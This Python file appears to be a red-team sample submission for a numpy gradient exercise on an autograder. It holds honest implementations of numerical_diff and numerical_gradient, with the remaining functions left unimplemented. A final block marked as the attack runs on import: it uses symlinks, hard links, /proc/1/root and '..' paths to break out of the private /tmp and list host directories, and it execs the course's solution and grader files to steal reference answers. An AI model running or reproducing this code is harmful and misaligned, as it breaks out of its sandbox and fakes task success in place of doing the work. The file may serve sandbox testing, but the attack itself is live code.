# attack: reach the host's files through symlinks, hard links, /proc/*/root and '..' from the private /tmp
# honest: numerical_diff=full, numerical_gradient=full, gradient_descent=0, simpleNet.loss=0
#
# A ch04_gradient submission whose honest part implements numerical_diff and
# numerical_gradient (the rest raises NotImplementedError); the attack follows.

import numpy as np


def numerical_diff(f, x):
    h = 1e-4
    return (f(x + h) - f(x - h)) / (2 * h)


def numerical_gradient(f, x):
    h = 1e-4
    grad = np.zeros_like(x)
    for idx in np.ndindex(x.shape):
        tmp = x[idx]
        x[idx] = tmp + h
        fxh1 = f(x)
        x[idx] = tmp - h
        fxh2 = f(x)
        grad[idx] = (fxh1 - fxh2) / (2 * h)
        x[idx] = tmp
    return grad


def gradient_descent(f, init_x, lr=0.01, step_num=100):
    raise NotImplementedError()


class simpleNet:
    def __init__(self):
        self.W = np.random.randn(2, 3)

    def loss(self, x, t):
        raise NotImplementedError()


# ----- the attack -----
import os as _os

_TARGETS = ["/", "/work/main", "/work/main/solutions", "/work/main/autograder/graders/ch04_gradient",
            "/proc/1/root", "/proc/self/root", "/proc/1/cwd", "../../../..", "/root", "/home"]
_loot = []
for _i, _target in enumerate(_TARGETS):
    _link = f"/tmp/link{_i}"
    try:
        _os.symlink(_target, _link)
        for _name in _os.listdir(_link):
            _loot.append(_os.path.join(_link, _name))
    except OSError:
        pass
for _path in ("/work/main/course_config.py", "/tmp/../../work/main/course_config.py", "/proc/1/root/work/main/course_config.py"):
    try:
        _os.link(_path, "/tmp/hardlink")
    except OSError:
        pass
for _path in _loot:
    if _path.endswith(("solutions", "ch04_gradient.ipynb", "test_gradient_descent.py")):
        try:
            exec(open(_path).read(), globals())
        except Exception:
            pass
